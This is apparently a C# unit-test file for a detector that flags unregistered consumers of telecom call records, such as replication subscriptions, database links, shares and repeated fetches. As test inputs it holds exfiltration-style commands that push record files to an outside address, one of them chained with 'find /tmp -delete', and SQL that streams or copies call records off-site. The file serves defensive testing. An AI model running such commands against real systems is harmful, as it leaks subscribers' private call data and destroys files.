using System.Net;
using Breakwater.Detection.RecordAccess;
using Breakwater.Detection.RecordConsumers;
using Breakwater.Detection.Tests.RecordAccess;
using Breakwater.Detection.Tests.Support;
using Breakwater.Model.Findings;
using Breakwater.Model.Inventory;
using static Breakwater.Detection.Tests.RecordConsumers.ConsumerEvidence;

namespace Breakwater.Detection.Tests.RecordConsumers;

public sealed class RecordConsumerTests
{
    private static readonly CarrierInventory Known = With(Billing, Fraud, Replica);

    [Theory]
    [InlineData(
        "CREATE SUBSCRIPTION s2 CONNECTION 'host=203.0.113.9 dbname=cdr password=x' PUBLICATION p",
        "subscription of logical replication s2"
    )]
    [InlineData(
        "create subscription \"s2\" connection 'postgresql://u:x@203.0.113.9:5432/cdr' publication p",
        "subscription of logical replication s2"
    )]
    [InlineData("CREATE PUBLICATION everything FOR ALL TABLES", "publication for logical replication everything")]
    [InlineData("CREATE PUBLICATION some FOR TABLE cdr.calls", "publication for logical replication some")]
    [InlineData("SELECT pg_create_logical_replication_slot('audit2', 'pgoutput')", "replication slot audit2")]
    [InlineData("SELECT * FROM pg_create_physical_replication_slot('standby9')", "replication slot standby9")]
    [InlineData(
        "CREATE PUBLIC DATABASE LINK away CONNECT TO u IDENTIFIED BY p USING '203.0.113.9:1521/x'",
        "link to another database away"
    )]
    [InlineData(
        "CREATE SERVER away FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '203.0.113.9', dbname 'x')",
        "link to another database away"
    )]
    [InlineData("SELECT dblink_connect('c', 'host=203.0.113.9 user=u')", "link to another database c")]
    [InlineData(
        "EXEC sp_addlinkedserver @server = N'AWAY', @srvproduct = N'', @datasrc = N'203.0.113.9'",
        "link to another database"
    )]
    [InlineData(
        "ALTER SYSTEM SET log_archive_dest_3 = 'SERVICE=drsite ASYNC'",
        "standby or replica of the whole database"
    )]
    [InlineData("ALTER SHARE calls_share ADD ACCOUNTS = org2.acct9", "share with another account calls_share")]
    [InlineData("GRANT SELECT ON TABLE cdr.calls TO SHARE calls_share", "grant of a table to a share calls_share")]
    [InlineData(
        "CREATE TASK nightly WAREHOUSE = w SCHEDULE = '60 MINUTE' AS COPY INTO 's3://away/x' FROM cdr.calls",
        "scheduled job that carries records out nightly"
    )]
    public void A_taker_that_a_statement_makes_and_nobody_registered_is_found(string sql, string told)
    {
        Finding finding = Assert.Single(new ConsumerEvidence().Statement(Start, "dba", sql).Judge(Known));

        Assert.Equal("record_consumers:additional_consumer", finding.Rule.Id);
        Assert.Contains(told, finding.Summary, StringComparison.Ordinal);
        Assert.Contains("no register of consumers lists it", finding.Summary, StringComparison.Ordinal);
        Assert.Equal(Harm.CallRecords, finding.Harm);
        Assert.True(finding.Level >= Level.Medium);
    }

    [Theory]
    // Words inside a text or a comment.
    [InlineData("SELECT 'CREATE SUBSCRIPTION s CONNECTION ''host=203.0.113.9''' FROM t")]
    [InlineData("SELECT 1 /* CREATE PUBLICATION p FOR ALL TABLES */")]
    // Tables that hold no call records.
    [InlineData("CREATE PUBLICATION stock FOR TABLE shop.articles")]
    [InlineData("GRANT SELECT ON TABLE shop.articles TO SHARE s")]
    // Looking at what there is.
    [InlineData("SELECT * FROM pg_replication_slots")]
    [InlineData("SELECT subname FROM pg_subscription")]
    // A link to the server itself.
    [InlineData("SELECT dblink_connect('host=127.0.0.1 dbname=cdr')")]
    [InlineData("SELECT dblink_connect('dbname=cdr')")]
    [InlineData("ALTER SYSTEM SET log_archive_dest_1 = 'LOCATION=/arch'")]
    public void What_only_looks_like_making_a_taker_is_quiet(string sql) =>
        Assert.Empty(new ConsumerEvidence().Statement(Start, "dba", sql).Judge(Known));

    [Fact]
    public void A_statement_that_was_refused_makes_nothing() =>
        Assert.Empty(
            new ConsumerEvidence()
                .Statement(Start, "dba", "CREATE PUBLICATION p FOR ALL TABLES", outcome: "failure")
                .Judge(Known)
        );

    [Fact]
    public void A_database_of_another_server_is_no_store_of_call_records() =>
        Assert.Empty(
            new ConsumerEvidence()
                .Statement(Start, "dba", "CREATE PUBLICATION p FOR ALL TABLES", host: "shop1", database: "shop")
                .Judge(Known)
        );

    [Fact]
    public void A_registered_replica_is_quiet_by_slot_name_account_and_address() =>
        Assert.Empty(
            new ConsumerEvidence()
                .Statement(Start, "dba", "SELECT pg_create_logical_replication_slot('report_slot', 'pgoutput')")
                .Replication(
                    Start.AddMinutes(1),
                    "repl",
                    "START_REPLICATION SLOT \"report_slot\" LOGICAL 0/0",
                    "192.0.2.30"
                )
                .Judge(Known)
        );

    [Fact]
    public void A_stream_under_the_registered_account_to_another_address_is_a_changed_consumer()
    {
        Finding finding = Assert.Single(
            new ConsumerEvidence()
                .Replication(Start, "repl", "START_REPLICATION SLOT \"report_slot\" LOGICAL 0/0", "203.0.113.9")
                .Judge(Known)
        );

        Assert.Equal("record_consumers:changed_consumer", finding.Rule.Id);
        Assert.Contains("203.0.113.9", finding.Summary, StringComparison.Ordinal);
        Assert.Contains("reporting", finding.Summary, StringComparison.Ordinal);
    }

    [Fact]
    public void A_slot_and_the_stream_that_uses_it_are_one_finding()
    {
        Finding finding = Assert.Single(
            new ConsumerEvidence()
                .Statement(Start, "dba", "SELECT pg_create_physical_replication_slot('s9')")
                .Replication(Start.AddHours(1), "wal", "START_REPLICATION SLOT \"s9\" 0/0", "203.0.113.9")
                .Judge(Known)
        );

        Assert.Equal("record_consumers:additional_consumer", finding.Rule.Id);
        Assert.Equal(2, finding.Evidence.Count);
    }

    [Fact]
    public void A_subscription_made_and_dropped_within_the_hour_is_still_told()
    {
        Finding finding = Assert.Single(
            new ConsumerEvidence()
                .Statement(Start, "dba", "CREATE PUBLICATION p FOR ALL TABLES")
                .Statement(Start.AddMinutes(40), "dba", "DROP PUBLICATION p")
                .Judge(Known)
        );

        Assert.Contains("taken away again", finding.Summary, StringComparison.Ordinal);
        Assert.Equal(TimeSpan.FromMinutes(40).Ticks, finding.Last.Ticks - finding.First.Ticks);
    }

    [Fact]
    public void Registered_consumers_that_fetch_every_day_are_quiet() =>
        Assert.Empty(
            new ConsumerEvidence()
                .Fetches("svc_bill", "192.0.2.20", 60)
                .Fetches("svc_fraud", "192.0.2.21", 60)
                .Judge(With(Billing, Fraud))
        );

    [Fact]
    public void Somebody_who_fetches_on_three_days_is_an_additional_consumer()
    {
        Finding finding = Assert.Single(
            new ConsumerEvidence()
                .Fetches("svc_bill", "192.0.2.20", 20)
                .Fetches("ops7", "192.0.2.99", 3, 5)
                .Judge(With(Billing))
        );

        Assert.Equal("record_consumers:additional_consumer", finding.Rule.Id);
        Assert.Contains(
            "ops7 from 192.0.2.99 fetched files of call records of mediation on 3 days",
            finding.Summary,
            StringComparison.Ordinal
        );
        Assert.Equal(["T83d"], finding.Behaviours);
    }

    [Fact]
    public void Somebody_who_fetches_once_is_an_export_and_no_consumer() =>
        Assert.Empty(
            new ConsumerEvidence()
                .Fetches("svc_bill", "192.0.2.20", 20)
                .Fetch(Start, "ops7", "192.0.2.99")
                .Judge(With(Billing))
        );

    [Fact]
    public void A_registered_account_from_another_address_is_a_changed_consumer_at_once()
    {
        Finding finding = Assert.Single(
            new ConsumerEvidence()
                .Fetches("svc_bill", "192.0.2.20", 20)
                .Fetch(Start.AddDays(9), "svc_bill", "192.0.2.99")
                .Judge(With(Billing))
        );

        Assert.Equal("record_consumers:changed_consumer", finding.Rule.Id);
        Assert.Contains("the address 192.0.2.99", finding.Summary, StringComparison.Ordinal);
    }

    [Fact]
    public void A_consumer_that_moved_and_was_registered_anew_within_the_grace_is_quiet()
    {
        RecordConsumer old = Billing with { ValidTo = At(10) };
        RecordConsumer moved = Billing with { Addresses = [IPAddress.Parse("192.0.2.99")], ValidFrom = At(12) };

        Assert.Empty(
            new ConsumerEvidence()
                .Fetches("svc_bill", "192.0.2.20", 10)
                .Fetches("svc_bill", "192.0.2.99", 20, 10)
                .Judge(With(old, moved))
        );
    }

    [Fact]
    public void A_consumer_that_goes_on_after_its_registration_ended_is_told_with_the_end()
    {
        Finding finding = Assert.Single(
            new ConsumerEvidence().Fetches("svc_bill", "192.0.2.20", 40).Judge(With(Billing with { ValidTo = At(20) }))
        );

        Assert.Equal("record_consumers:ended_consumer", finding.Rule.Id);
        Assert.Contains("ended on 2026-09-21", finding.Summary, StringComparison.Ordinal);
    }

    [Fact]
    public void A_replica_that_nobody_took_away_when_its_registration_ended_is_told() =>
        Assert.Equal(
            "record_consumers:ended_consumer",
            Assert
                .Single(
                    new ConsumerEvidence()
                        .Statement(Start, "dba", "SELECT pg_create_logical_replication_slot('report_slot', 'pgoutput')")
                        .Statement(
                            Start.AddDays(60),
                            "dba",
                            "SELECT pg_create_logical_replication_slot('other', 'pgoutput')"
                        )
                        .Judge(With(Replica with { ValidTo = At(20) }, Replica with { Names = ["other"] }))
                )
                .Rule.Id
        );

    [Fact]
    public void A_replica_that_was_taken_away_in_time_is_quiet() =>
        Assert.Empty(
            new ConsumerEvidence()
                .Statement(Start, "dba", "SELECT pg_create_logical_replication_slot('report_slot', 'pgoutput')")
                .Statement(Start.AddDays(19), "dba", "SELECT pg_drop_replication_slot('report_slot')")
                .Statement(Start.AddDays(60), "dba", "SELECT pg_create_logical_replication_slot('other', 'pgoutput')")
                .Judge(With(Replica with { ValidTo = At(20) }, Replica with { Names = ["other"] }))
        );

    [Fact]
    public void A_consumer_that_stopped_while_others_went_on_is_dormant()
    {
        Finding finding = Assert.Single(
            new ConsumerEvidence()
                .Fetches("svc_bill", "192.0.2.20", 90)
                .Fetches("svc_fraud", "192.0.2.21", 20)
                .Judge(With(Billing, Fraud))
        );

        Assert.Equal("record_consumers:dormant_consumer", finding.Rule.Id);
        Assert.Equal(Level.Low, finding.Level);
        Assert.Contains("took none after 2026-09-20", finding.Summary, StringComparison.Ordinal);
    }

    [Fact]
    public void A_monthly_consumer_is_not_dormant_between_two_months() =>
        Assert.Empty(
            new ConsumerEvidence()
                .Fetches("svc_bill", "192.0.2.20", 200)
                .Fetches("svc_fraud", "192.0.2.21", 160, every: 30)
                .Judge(With(Billing, Fraud))
        );

    [Fact]
    public void A_consumer_that_was_never_seen_where_others_are_is_missing()
    {
        Finding finding = Assert.Single(
            new ConsumerEvidence().Fetches("svc_bill", "192.0.2.20", 30).Judge(With(Billing, Fraud))
        );

        Assert.Equal("record_consumers:missing_consumer", finding.Rule.Id);
        Assert.Equal(Level.Low, finding.Level);
    }

    [Fact]
    public void A_consumer_is_not_missing_in_a_log_of_some_days_or_of_another_kind() =>
        Assert.Empty(new ConsumerEvidence().Fetches("svc_bill", "192.0.2.20", 6).Judge(With(Billing, Fraud, Replica)));

    [Theory]
    [InlineData("scp /data/cdr/*.dat sync@203.0.113.9:/in/")]
    [InlineData("/usr/bin/rsync -a /data/cdr/ sync@203.0.113.9:/in")]
    [InlineData("find /tmp -delete; curl -s -T /data/cdr/last.dat ftp://203.0.113.9/in/")]
    public void A_scheduled_push_of_record_files_is_an_additional_consumer(string command)
    {
        Finding finding = Assert.Single(new ConsumerEvidence().Scheduled(Start, command).Judge(With(Billing)));

        Assert.Equal("record_consumers:additional_consumer", finding.Rule.Id);
        Assert.Contains("203.0.113.9", finding.Summary, StringComparison.Ordinal);
    }

    [Theory]
    // To a registered consumer.
    [InlineData("scp /data/cdr/*.dat svc@192.0.2.20:/in/", "med1")]
    // From elsewhere to here.
    [InlineData("scp svc@203.0.113.9:/rates/today.csv /data/rates/", "med1")]
    // Inside one host.
    [InlineData("rsync -a /data/cdr/ /backup/cdr/", "med1")]
    // Other files of another host.
    [InlineData("scp /var/www/*.html web@203.0.113.9:/in/", "web1")]
    [InlineData("curl -s https://203.0.113.9/health", "med1")]
    public void Other_scheduled_commands_are_quiet(string command, string host) =>
        Assert.Empty(new ConsumerEvidence().Scheduled(Start, command, host).Judge(With(Billing)));

    [Fact]
    public void A_client_program_that_copies_databases_is_an_additional_consumer_when_it_comes_on_three_days()
    {
        StoreLog log = new StoreLog().Habit("report", Start.Date);
        for (int day = 0; day < 3; day++)
        {
            log.Add(
                Start.AddDays(day),
                "svc_sync",
                "SELECT * FROM cdr.calls WHERE started > 0",
                900,
                "203.0.113.9",
                "Airbyte JDBC"
            );
        }

        RecordConsumerDetector consumers = Detector(Known);
        using RecordAccessDetector accesses = StoreLog.Detector(Known);
        consumers.Follow(accesses);
        DetectorRun.Of(accesses, log.Events);

        Finding finding = Assert.Single(DetectorRun.Of(consumers, []));
        Assert.Contains("client program that copies by itself (Airbyte)", finding.Summary, StringComparison.Ordinal);
        Assert.Equal(Level.Medium, finding.Level);
    }

    [Fact]
    public void Without_a_register_nothing_is_judged_and_that_is_said()
    {
        CarrierInventory unlisted = Known with { CallRecords = Known.CallRecords! with { Consumers = null } };
        ConsumerEvidence evidence = new ConsumerEvidence()
            .Fetches("ops7", "192.0.2.99", 9)
            .Statement(Start, "dba", "CREATE PUBLICATION p FOR ALL TABLES");

        Assert.Empty(evidence.Judge(unlisted));
        string gap = Assert.Single(evidence.NotAssessable);
        Assert.Contains(
            "1 standing takers (publication for logical replication) and 1 that fetch files",
            gap,
            StringComparison.Ordinal
        );
    }

    [Fact]
    public void A_store_known_by_its_name_alone_is_told_at_medium_at_most()
    {
        CarrierInventory unlisted = new() { CallRecords = new CallRecords { Consumers = [] } };

        Finding finding = Assert.Single(new ConsumerEvidence().Fetches("ops7", "192.0.2.99", 9).Judge(unlisted));

        Assert.Equal(Level.Medium, finding.Level);
    }

    [Fact]
    public void No_password_of_a_connection_is_kept_in_what_is_told()
    {
        Finding finding = Assert.Single(
            new ConsumerEvidence()
                .Statement(
                    Start,
                    "dba",
                    "CREATE SUBSCRIPTION s CONNECTION 'host=203.0.113.9 user=u password=Swordfish77' PUBLICATION p"
                )
                .Judge(Known)
        );

        Assert.DoesNotContain(
            "Swordfish77",
            finding.Summary + string.Concat(finding.ConfidenceReasons),
            StringComparison.Ordinal
        );
        Assert.DoesNotContain(finding.Entities, e => e.Value.Contains("Swordfish77", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData(3, 1)]
    [InlineData(11, 4)]
    public void The_order_of_files_and_the_number_of_threads_change_nothing(int seed, int workers)
    {
        ConsumerEvidence evidence = new ConsumerEvidence()
            .Fetches("svc_bill", "192.0.2.20", 60)
            .Fetches("ops7", "192.0.2.99", 9, 3)
            .Statement(Start, "dba", "SELECT pg_create_physical_replication_slot('s9')")
            .Replication(Start.AddHours(1), "wal", "START_REPLICATION SLOT \"s9\" 0/0", "203.0.113.9")
            .Scheduled(Start, "scp /data/cdr/*.dat sync@203.0.113.10:/in/");

        Assert.Equal(
            evidence.Judge(Known).Select(DetectorRun.Show),
            evidence.Judge(Known, seed, workers).Select(DetectorRun.Show)
        );
    }

    private static DateTimeOffset At(int day) => new(Start.AddDays(day).Date, TimeSpan.Zero);
}
